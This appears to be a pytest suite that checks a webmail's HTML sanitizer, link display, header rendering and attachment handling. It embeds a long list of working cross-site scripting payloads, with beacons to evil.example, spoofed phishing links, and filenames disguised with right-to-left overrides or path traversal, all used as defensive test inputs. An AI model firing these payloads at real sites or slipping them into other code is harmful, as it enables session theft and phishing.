"""What strangers write, in the webmail: nothing of it runs, leads astray, or fetches anything."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailhub.core.turns import Turns
from mailhub.core.viewing import Words
from mailhub.http.webmail import links, plain
from mailhub.http.webmail.lines import plain as unturned
from mailhub.wire import sanitized
from tests.fakes import FakeClock
from tests.http.reading import JOE, Reader
from tests.http.visiting import foreign
from tests.support import run
from tests.world import ACTOR

pytestmark = pytest.mark.thorough

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=set-cookie content=x=y>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<style>a[href^=x]{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background:\\75\\72\\6c(//evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style=\"font-family:'</style><img src=x onerror=alert(1)>'\">x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href='/mail/messages'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='mailto:x@y.example?body=<script>alert(1)</script>\"onclick=alert(1)'>x</a>",
    "<a href='https://x.example/\" onmouseover=alert(1) x=\"'>x</a>",
    "<a target=_top ping=//evil.example download href=https://x.example>x</a>",
    "<img src='/panel/sign-out'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img srcset='//evil.example/x 1x'>",
    "<img src=cid:none@example>",
    "<img lowsrc=//evil.example/x dynsrc=//evil.example/y>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video src=//evil.example/x poster=//evil.example/y onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<body onload=alert(1) background=//evil.example/x>",
    "<table background=//evil.example/x><td background=//evil.example/x>x</table>",
    "<form action=//evil.example><input name=password><button formaction=//e.example>x</form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=csrf name=csrf class=problem>x</p>",
    "<b title='<a href=javascript:alert(1)>'>x</b>",
    "<b title=' href=\"javascript:alert(1)\"'>x</b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$B<script>alert(1)</script>\x1b(B",
    "<a href=https://x.example title='</a><script>alert(1)</script>'>bank.example</a>",
    "</body></html><script>alert(1)</script>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<dialog open><p>x</dialog>",
    "<portal src=//evil.example></portal>",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
]
GOOD_TAGS = sanitized._TAGS | {"html", "head", "body", "meta", "base", "title", "style"}
BAD_TAGS = {
    *("script", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link"),
    *("video", "audio", "template", "textarea", "select", "frame", "frameset", "applet", "portal"),
}


class Judge(HTMLParser):
    """Says what in a document could do something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.met: list[str] = []
        self.links: list[dict[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in BAD_TAGS or tag not in GOOD_TAGS:
            self.met.append(f"<{tag}>")
        if tag == "a":
            self.links.append(given)
        for name, value in given.items():
            target = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in {"id", "class", "srcdoc", "srcset", "ping"}:
                self.met.append(f"{name}={value}")
            if name in {"href", "src", "background", "action", "cite"} and not (
                target.startswith(("https://", "http://", "tel:", "ftp://", "#", "/mail/compose?"))
                or (tag == "img" and target.startswith(("/mail/pictures/", "data:image/")))
            ):
                self.met.append(f"{name}={value}")
            if name == "src" and target.startswith("data:image/svg"):
                self.met.append(f"{name}={value}")
            if name == "style" and re.search(r"url|\\|expression|position|@|binding", value):
                self.met.append(f"{name}={value}")


def judged(document: str) -> Judge:
    """The parts of a document that strangers wrote."""
    body = document.partition("<body>")[2] or document
    judge = Judge()
    judge.feed(body)
    judge.close()
    return judge


@pytest.fixture(scope="module")
def reader() -> Reader:
    return Reader()


def document(reader: Reader, number: int) -> str:
    return reader.ask(f"{reader.inbox}/{number}/html").body.decode()


def test_nothing_of_the_corpus_is_left(reader: Reader) -> None:
    """In one message each, and all that our pages show of it."""
    for source in HOSTILE:
        reader.html(f"<p>before</p>{source}<p>behind</p>")
        number = reader.came
        made = document(reader, number)
        assert judged(made).met == [], source
        assert "before" in made
        page = reader.look(f"{reader.inbox}/{number}")
        assert not foreign(page), source
        assert "alert(1)" not in re.sub(r"<bdi.*?</bdi>", "", page, flags=re.S), source
        page = reader.look(f"{reader.inbox}/{number}?as=text")
        assert not foreign(page), source


@pytest.mark.parametrize("charset", ["utf-7", "utf-16", "iso-2022-jp", "hz-gb-2312", "x-evil", '"'])
def test_no_charset_makes_letters_to_tags(charset: str) -> None:
    reader = Reader()
    for source in ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "~{<script>~}alert(1)</script>"):
        reader.html(source, f"text/html; charset={charset}")
    for number in (1, 2):
        reply = reader.ask(f"{reader.inbox}/{number}/html")
        assert judged(reply.body.decode()).met == []
        assert reply.headers["content-type"] == "text/html; charset=utf-8"


def test_the_document_can_do_nothing(reader: Reader) -> None:
    reader.html("<p>x</p>")
    number = reader.came
    reply = reader.ask(f"{reader.inbox}/{number}/html")
    policy = dict(
        one.strip().partition(" ")[::2]
        for one in reply.headers["content-security-policy"].split(";")
    )
    assert policy == {
        "sandbox": "allow-popups allow-popups-to-escape-sandbox",
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "'self' data:",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'self'",
    }
    assert reply.headers["referrer-policy"] == "no-referrer"
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["cache-control"] == "no-store"
    page = reader.look(f"{reader.inbox}/{number}")
    frame = re.search(r"<iframe [^>]*>", page)
    assert frame is not None
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame[0]


def test_pictures_of_others_are_fetched_when_asked_for_alone() -> None:
    reader = Reader()
    reader.html("<img src='https://track.example/p.gif'>")
    reader.html("<p>none</p>")
    page = reader.look(f"{reader.inbox}/1")
    assert "are not shown" in page
    assert "/html?images=1" not in page
    quiet = reader.ask(f"{reader.inbox}/1/html").headers["content-security-policy"]
    assert "https:" not in quiet
    page = reader.look(f"{reader.inbox}/1?images=1")
    assert "/html?images=1" in page
    loud = reader.ask(f"{reader.inbox}/1/html?images=1").headers["content-security-policy"]
    assert "img-src 'self' data: https:;" in loud
    assert loud.replace(" https:", "") == quiet
    assert "Images from other servers" not in reader.look(f"{reader.inbox}/2")


# -- where links lead


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("<a href='https://evil.example/x'>https://bank.example</a>", "[→ evil.example]"),
        ("<a href='https://evil.example/x'><b>www.bank</b>.example</a>", "[→ evil.example]"),
        ("<a href='https://bank.example.evil.example'>bank.example</a>", "evil.example]"),
        ("<a href='https://bank.example@evil.example/'>bank.example</a>", "[→ evil.example]"),
        ("<a href='https://bаnk.example/'>bank.example</a>", "[→ xn--bnk-6cd.example]"),
        ("<a href='https://www.bank.example/x'>bank.example</a>", ""),
        ("<a href='https://bank.example/x'>https://www.bank.example/y</a>", ""),
        ("<a href='https://bank.example/x'>Click here</a>", ""),
        ("<a href='https://[broken/x'>bank.example</a>", ""),
        ("<a href='#below'>bank.example</a>", ""),
    ],
)
def test_where_a_link_leads(source: str, shown: str) -> None:
    made = marked(source)
    assert shown in made
    assert ("[→" in made) == bool(shown)
    for link in judged(made).links:
        if not link.get("href", "#").startswith("#"):
            assert (link["rel"], link["target"]) == ("noopener noreferrer", "_blank")
            assert link["title"]


def test_a_link_s_title_is_where_it_leads() -> None:
    made = marked("<a href='https://evil.example/' title='https://bank.example/'>x</a>")
    assert judged(made).links[0]["title"] == "https://evil.example/"


def test_an_address_leads_to_writing() -> None:
    made = marked("<a href='mailto:ann@x.example?subject=A%26B&amp;bcc=c@x.example&x=y'>x</a>")
    assert judged(made).links[0]["href"] == (
        "/mail/compose?to=ann%40x.example&subject=A%26B&bcc=c%40x.example"
    )


def marked(source: str) -> str:
    return run(links.marked(sanitized.clean(source, {}), Turns(FakeClock())))


FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from(HOSTILE),
        st.sampled_from(
            [
                "<a href='https://x.example'>",
                "</a>",
                "<b title='",
                '"',
                "'",
                ">",
                "<",
                "<p>",
                "&lt;",
            ]
        ),
        st.text(max_size=10),
    ),
    max_size=12,
).map("".join)


@settings(max_examples=50, deadline=None)
@given(FRAGMENTS)
def test_no_mixture_of_it_is_left(source: str) -> None:
    made = marked(source)
    assert judged(made).met == []
    clean = sanitized.clean(source, {})
    assert len(judged(made).links) == len(judged(clean).links)


@settings(max_examples=50, deadline=None)
@given(st.one_of(FRAGMENTS, st.text(alphabet="> \n<\"'&:/@.ahtps", max_size=200)))
def test_no_text_becomes_more_than_text(source: str) -> None:
    for words in (Words(source), Words(source, True), Words(source, True, True)):
        made, _ = run(plain.shown([words], Turns(FakeClock())))
        judge = Judge()
        judge.feed(str(made))
        judge.close()
        assert [one for one in judge.met if one != "class=text"] == []
        assert str(made).count("<blockquote>") == str(made).count("</blockquote>")


@pytest.mark.parametrize(
    "source",
    [
        *("a" * 100_000, "a@" * 50_000, "a@b.cc " * 14_000, "http://é.cc " * 9000),
        *("> " * 50_000, ">" * 99_000, "> a\nb\n" * 15_000, "a \n" * 33_000, "&" * 99_000),
    ],
)
def test_a_long_text_is_shown_in_turns_and_in_bounds(source: str) -> None:
    """What took quadratic time would run for minutes."""
    for words in (Words(source), Words(source, True)):
        made, _ = run(plain.shown([words], Turns(FakeClock())))
        assert len(made) < 180_000
        assert str(made).count("<a ") <= plain.LINKS


@settings(max_examples=50, deadline=None)
@given(st.lists(st.sampled_from(["a", "\n", "\n\n", "\r\n", "word " * 300]), max_size=60))
def test_pieces_of_a_text_are_the_text(parts: list[str]) -> None:
    text = "".join(parts)
    found = list(plain.pieces(text))
    assert all(len(one) <= 2 * plain.PIECE for one in found)
    assert "".join(found).replace("\n", "") == text.replace("\r", "").replace("\n", "")


@pytest.mark.parametrize("source", ["<a href='https://x.example'>" * 5000, "<b>" * 20000])
def test_a_long_document_is_marked_at_once(source: str) -> None:
    made = run(links.marked(source.replace("'", '"'), Turns(FakeClock())))
    assert made.startswith("<")


# -- fields


def test_fields_are_shown_as_text(reader: Reader) -> None:
    hostile = '"><script>alert(1)</script>'
    reader.deliver(
        f'From: "{hostile.replace(chr(34), "")}" <eve@remote.example>\r\nTo: {JOE}\r\n'
        f"Subject: {hostile}\r\nReply-To: =?utf-8?q?=3Cscript=3Ealert=281=29=3C/script=3E?="
        " <x@y.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment;"
        ' filename="<img src=x onerror=alert(1)>.html"\r\n\r\n<script>alert(1)</script>\r\n'
        "--b--\r\n".encode()
    )
    for path in (reader.inbox, f"{reader.inbox}?by=message", "/mail/search?q=alert"):
        page = reader.look(path)
        assert reader.browser.status == 200
        assert "<script>alert" not in page
        assert not foreign(page)
    number = reader.came
    page = reader.look(f"{reader.inbox}/{number}")
    assert "<script>alert" not in page
    assert "onerror=alert(1)&gt;.html" in unescape(page).replace(">", "&gt;")
    assert not foreign(page)


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("a\u2066b\u2069c", "abc"),
        ("a\u200bb\ufeffc", "abc"),
        ("  a \t\r\n b  ", "a b"),
        ("שלום", "שלום"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("\U000e0041x\u00ady", "xy"),
    ],
)
def test_nothing_turns_what_is_read(written: str, read: str) -> None:
    assert unturned(written) == read


# -- attachments


@pytest.mark.parametrize(
    "media", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"]
)
def test_an_attachment_is_no_page_of_ours(media: str) -> None:
    reader = Reader()
    reader.deliver(
        b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: "
        + media.encode()
        + b'\r\nContent-Disposition: attachment; filename="a\xe2\x80\xae;\r\n =b/..\\x.html"'
        b"\r\n\r\n<script>alert(1)</script>\r\n"
    )
    reply = reader.ask(f"{reader.inbox}/1/attachments/ATT00001")
    assert reply.status == 200
    assert reply.headers["content-disposition"].startswith("attachment; ")
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in reply.headers["content-security-policy"]
    source = reader.ask(f"{reader.inbox}/1/source")
    assert source.headers["content-type"].startswith("text/plain")
    assert "sandbox" in source.headers["content-security-policy"]


PICTURE = (
    b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
    b"<img src=cid:one@x><img src='CID:%74wo@x'><img src=cid:none>\r\n"
    b"--b\r\nContent-Type: image/png\r\nContent-ID: <one@x>\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n"
    b"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <two@x>\r\n\r\n"
    b"<svg onload='alert(1)'/>\r\n--b--\r\n"
)


def test_pictures_inside_a_message() -> None:
    reader = Reader()
    reader.deliver(PICTURE)
    made = document(reader, 1)
    assert judged(made).met == []
    one, two = re.findall(r'src="(/mail/pictures/[^"]+)"', made)
    picture = reader.site.ask("GET", one)
    assert (picture.status, picture.body) == (200, b"\x89PNG\r\n\x1a\n")
    assert picture.headers["content-type"] == "image/png"
    assert "sandbox" in picture.headers["content-security-policy"]
    assert reader.site.ask("GET", two).status == 403
    page = reader.look(f"{reader.inbox}/1")
    assert "1 attachment<" in page, "the picture is shown, the other file is not"


def test_a_picture_is_for_who_has_the_proof_and_for_some_hours() -> None:
    reader = Reader()
    reader.deliver(PICTURE)
    made = document(reader, 1)
    (path, *_) = re.findall(r'src="(/mail/pictures/[^"]+)"', made)
    parts = path.split("/")
    for place, other in ((3, "2"), (4, "2"), (5, "2"), (6, parts[6][:-1] + "x"), (6, "9" * 9)):
        changed = [*parts]
        changed[place] = other
        assert reader.site.ask("GET", "/".join(changed)).status == 403, changed
    later = f"{int(parts[6].partition('-')[0]) + 1}-{parts[6].partition('-')[2]}"
    assert reader.site.ask("GET", path.replace(parts[6], later)).status == 403
    reader.site.world.clock.advance(6 * 3600)
    assert reader.site.ask("GET", path).status == 403


def test_a_picture_ends_with_the_password() -> None:
    reader = Reader()
    reader.deliver(PICTURE)
    (path, *_) = re.findall(r'src="(/mail/pictures/[^"]+)"', document(reader, 1))
    run(reader.site.world.accounts.end_sessions(reader.site.world.people[JOE].number, ACTOR))
    assert reader.site.ask("GET", path).status == 403
